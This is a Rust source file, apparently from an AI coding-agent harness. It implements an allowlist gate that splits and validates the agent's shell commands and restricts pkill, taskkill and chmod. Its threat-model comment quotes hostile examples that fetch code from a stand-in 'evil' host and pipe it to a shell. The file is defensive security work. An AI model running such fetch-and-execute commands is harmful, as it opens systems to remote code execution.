//! Command gate: allowlist validation for agent shell commands
//!
//! Every shell command the agent wants to run passes through
//! [`CommandGate::validate`] before execution. Only allowlisted programs may
//! run, and a few sensitive ones get argument-level checks on top.
//!
//! # Threat Model
//!
//! - **Chaining:** `ls && curl evil | sh` hides a second program behind an
//!   allowed one. Commands are split on unquoted `;`, `&&`, `||`, `|`, `&` and
//!   newlines and every segment's program is checked.
//! - **Substitution:** `echo $(curl evil)` runs a program the splitter never
//!   sees. Any unquoted or double-quoted `$(` or backtick is refused.
//! - **Unparsable input:** unclosed quotes and similar are refused.
//!
//! ```text
//! command ─→ split segments ─→ shlex tokens ─→ program name
//!                                                ├─ not allowlisted   → Block
//!                                                ├─ pkill/taskkill/chmod/init.sh → extra validator
//!                                                └─ otherwise         → next segment
//! ```

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

/// Programs the agent may run.
pub const DEFAULT_ALLOWED_COMMANDS: &[&str] = &[
    "ls", "cat", "head", "tail", "wc", "grep", "cp", "mkdir", "chmod", "pwd", "npm", "pnpm",
    "node", "npx", "git", "ps", "lsof", "sleep", "pkill", "taskkill", "netstat", "findstr", "true",
    "false", "echo", "init.sh",
];

/// Tokens that precede a program without being one.
const SHELL_KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "while", "until", "do", "done", "esac", "!", "{", "}",
];

/// Process names `pkill` may target.
const PKILL_PROCESS_NAMES: &[&str] = &["node", "npm", "npx", "pnpm", "vite", "next", "tsx", "turbo"];

/// Names too broad for `pkill -f` on their own.
const PKILL_TOO_BROAD: &[&str] = &["node", "npm", "npx", "pnpm"];

/// `pkill -f` patterns known to target dev servers only.
const PKILL_SAFE_PATTERNS: &[&str] = &[
    "next dev",
    "next start",
    "next build",
    "vite",
    "vite dev",
    "vite build",
    "tsx watch",
    "tsx",
    "turbo dev",
    "turbo run",
    "npm run dev",
    "npm run start",
    "npm run build",
    "pnpm dev",
    "pnpm run dev",
    "npx next",
    "npx vite",
    "npx tsx",
];

/// Image names `taskkill /IM` may target.
const TASKKILL_IMAGE_NAMES: &[&str] = &["node.exe", "npm.exe", "npx.exe"];

/// Outcome of validating one command string.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "decision", rename_all = "snake_case")]
pub enum GateDecision {
    Allow,
    Block { reason: String },
}

impl GateDecision {
    fn block(reason: impl Into<String>) -> Self {
        Self::Block {
            reason: reason.into(),
        }
    }

    pub fn is_allowed(&self) -> bool {
        matches!(self, Self::Allow)
    }
}

impl std::fmt::Display for GateDecision {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Allow => write!(f, "allow"),
            Self::Block { reason } => write!(f, "blocked: {}", reason),
        }
    }
}

/// One program invocation inside a command string.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Invocation {
    /// Program as written (may include a path).
    program: String,
    /// Base name of the program.
    name: String,
    /// Tokens after the program.
    args: Vec<String>,
}

/// Allowlist-based command validator.
#[derive(Debug, Clone)]
pub struct CommandGate {
    allowed: BTreeSet<String>,
}

impl Default for CommandGate {
    fn default() -> Self {
        Self {
            allowed: DEFAULT_ALLOWED_COMMANDS
                .iter()
                .map(|c| c.to_string())
                .collect(),
        }
    }
}

impl CommandGate {
    /// Default allowlist plus `extra` programs.
    pub fn with_allowed<I, S>(extra: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        let mut gate = Self::default();
        gate.allowed.extend(extra.into_iter().map(Into::into));
        gate
    }

    pub fn is_allowed(&self, program: &str) -> bool {
        self.allowed.contains(program)
    }

    /// Validate a full shell command string.
    pub fn validate(&self, command: &str) -> GateDecision {
        let segments = match split_segments(command) {
            Ok(segments) => segments,
            Err(reason) => return GateDecision::block(reason),
        };

        let mut invocations = Vec::new();
        for segment in &segments {
            let Some(tokens) = shlex::split(segment) else {
                return GateDecision::block(format!(
                    "could not parse command for security validation: {command}"
                ));
            };
            if let Some(invocation) = find_invocation(tokens) {
                invocations.push(invocation);
            }
        }

        if invocations.is_empty() {
            return GateDecision::block(format!(
                "could not parse command for security validation: {command}"
            ));
        }

        for invocation in &invocations {
            if !self.is_allowed(&invocation.name) {
                return GateDecision::block(format!(
                    "command '{}' is not allowed by the security gate",
                    invocation.name
                ));
            }
            let checked = match invocation.name.as_str() {
                "pkill" => validate_pkill(&invocation.args),
                "taskkill" => validate_taskkill(&invocation.args),
                "chmod" => validate_chmod(&invocation.args),
                "init.sh" => validate_init_script(&invocation.program),
                _ => Ok(()),
            };
            if let Err(reason) = checked {
                return GateDecision::block(reason);
            }
        }

        GateDecision::Allow
    }

    /// Validate a pre-tool-use hook payload
    /// (`{"tool_name": "Bash", "tool_input": {"command": "..."}}`).
    ///
    /// Non-shell tools and empty commands are allowed.
    pub fn evaluate_hook(&self, payload: &serde_json::Value) -> GateDecision {
        if payload.get("tool_name").and_then(|v| v.as_str()) != Some("Bash") {
            return GateDecision::Allow;
        }
        let command = payload
            .get("tool_input")
            .and_then(|input| input.get("command"))
            .and_then(|v| v.as_str())
            .unwrap_or("");
        if command.trim().is_empty() {
            return GateDecision::Allow;
        }
        self.validate(command)
    }
}

// ── Parsing ─────────────────────────────────────────────────────────

/// Split on unquoted command separators. Rejects unclosed quotes and
/// command substitution.
fn split_segments(command: &str) -> Result<Vec<String>, String> {
    let chars: Vec<char> = command.chars().collect();
    let mut segments = Vec::new();
    let mut current = String::new();
    let mut in_single = false;
    let mut in_double = false;
    let mut i = 0;

    while i < chars.len() {
        let c = chars[i];
        let prev = if i > 0 { Some(chars[i - 1]) } else { None };
        let next = chars.get(i + 1).copied();

        if in_single {
            if c == '\'' {
                in_single = false;
            }
            current.push(c);
            i += 1;
            continue;
        }

        if c == '\\' {
            current.push(c);
            if let Some(n) = next {
                current.push(n);
            }
            i += 2;
            continue;
        }

        if c == '`' || (c == '$' && next == Some('(')) {
            return Err("command substitution is not allowed by the security gate".to_string());
        }

        if in_double {
            if c == '"' {
                in_double = false;
            }
            current.push(c);
            i += 1;
            continue;
        }

        match c {
            '\'' => {
                in_single = true;
                current.push(c);
                i += 1;
            }
            '"' => {
                in_double = true;
                current.push(c);
                i += 1;
            }
            ';' | '\n' => {
                segments.push(std::mem::take(&mut current));
                i += 1;
            }
            '&' if next == Some('&') => {
                segments.push(std::mem::take(&mut current));
                i += 2;
            }
            // redirections: 2>&1, &>file, >&2
            '&' if matches!(prev, Some('>') | Some('<')) || next == Some('>') => {
                current.push(c);
                i += 1;
            }
            '&' => {
                segments.push(std::mem::take(&mut current));
                i += 1;
            }
            '|' if matches!(next, Some('|') | Some('&')) => {
                segments.push(std::mem::take(&mut current));
                i += 2;
            }
            // clobber redirect >|
            '|' if prev == Some('>') => {
                current.push(c);
                i += 1;
            }
            '|' => {
                segments.push(std::mem::take(&mut current));
                i += 1;
            }
            _ => {
                current.push(c);
                i += 1;
            }
        }
    }

    if in_single || in_double {
        return Err(format!(
            "could not parse command for security validation: {command}"
        ));
    }

    segments.push(current);
    Ok(segments
        .into_iter()
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty())
        .collect())
}

/// First program in a segment's tokens, skipping keywords, flags and
/// `VAR=value` assignments. Loop headers (`for`, `case`) carry no program.
fn find_invocation(tokens: Vec<String>) -> Option<Invocation> {
    if matches!(
        tokens.first().map(String::as_str),
        Some("for") | Some("case") | Some("select")
    ) {
        return None;
    }

    let index = tokens.iter().position(|token| {
        !SHELL_KEYWORDS.contains(&token.as_str())
            && !token.starts_with('-')
            && !is_assignment(token)
    })?;

    let mut rest = tokens.into_iter().skip(index);
    let program = rest.next()?;
    let name = program
        .rsplit('/')
        .next()
        .unwrap_or(program.as_str())
        .to_string();

    Some(Invocation {
        program,
        name,
        args: rest.collect(),
    })
}

fn is_assignment(token: &str) -> bool {
    matches!(token.find('='), Some(pos) if pos > 0)
}

// ── Extra validators ────────────────────────────────────────────────

/// Process name a `pkill -f` pattern starts with: the leading word, or the
/// last path segment when the pattern starts with a path.
fn pattern_process_name(pattern: &str) -> &str {
    fn leading_name(word: &str) -> &str {
        let end = word
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
            .unwrap_or(word.len());
        &word[..end]
    }

    let first_word = pattern.split_whitespace().next().unwrap_or("");
    match leading_name(first_word) {
        "" => first_word
            .rsplit('/')
            .find(|segment| !segment.is_empty())
            .map(leading_name)
            .unwrap_or(""),
        name => name,
    }
}

fn validate_pkill(args: &[String]) -> Result<(), String> {
    let full_match = args.iter().any(|a| a == "-f");
    let targets: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    let Some(target) = targets.last() else {
        return Err("pkill requires a process name".to_string());
    };
    let lower = target.trim().to_lowercase();

    if full_match {
        if PKILL_SAFE_PATTERNS.contains(&lower.as_str()) {
            return Ok(());
        }
        let name = pattern_process_name(&lower);
        if PKILL_TOO_BROAD.contains(&name) && lower == name {
            return Err(format!(
                "pkill -f '{target}' is too broad and not allowed; \
                 use a specific pattern like 'pkill -f \"next dev\"'"
            ));
        }
        if PKILL_PROCESS_NAMES.contains(&name) {
            return Ok(());
        }
    } else if PKILL_PROCESS_NAMES.contains(&target.as_str()) {
        return Ok(());
    }

    Err(format!(
        "pkill is only allowed for dev processes ({}), '{target}' is not allowed",
        PKILL_PROCESS_NAMES.join(", ")
    ))
}

fn validate_taskkill(args: &[String]) -> Result<(), String> {
    let mut image = None;
    let mut iter = args.iter();
    while let Some(token) = iter.next() {
        let upper = token.to_uppercase();
        if upper == "/IM" {
            image = iter.next().map(|name| name.to_lowercase());
        } else if let Some(name) = upper.strip_prefix("/IM:") {
            image = Some(name.to_lowercase());
        }
    }

    match image {
        Some(name) if TASKKILL_IMAGE_NAMES.contains(&name.as_str()) => Ok(()),
        Some(name) => Err(format!(
            "taskkill is only allowed for dev processes ({}), '{name}' is not allowed",
            TASKKILL_IMAGE_NAMES.join(", ")
        )),
        None => Err("taskkill without /IM <image> is not allowed".to_string()),
    }
}

fn validate_chmod(args: &[String]) -> Result<(), String> {
    if args.iter().any(|a| a.starts_with('-')) {
        return Err("chmod flags are not allowed".to_string());
    }
    let Some((mode, files)) = args.split_first() else {
        return Err("chmod requires a mode".to_string());
    };
    if files.is_empty() {
        return Err("chmod requires at least one file".to_string());
    }
    let executable_only = mode
        .strip_suffix("+x")
        .is_some_and(|who| who.chars().all(|c| matches!(c, 'u' | 'g' | 'o' | 'a')));
    if !executable_only {
        return Err(format!("chmod mode {mode} is not allowed, only +x"));
    }
    Ok(())
}

fn validate_init_script(program: &str) -> Result<(), String> {
    if program == "./init.sh" || program.ends_with("/init.sh") {
        Ok(())
    } else {
        Err(format!("{program} is not allowed, only ./init.sh"))
    }
}
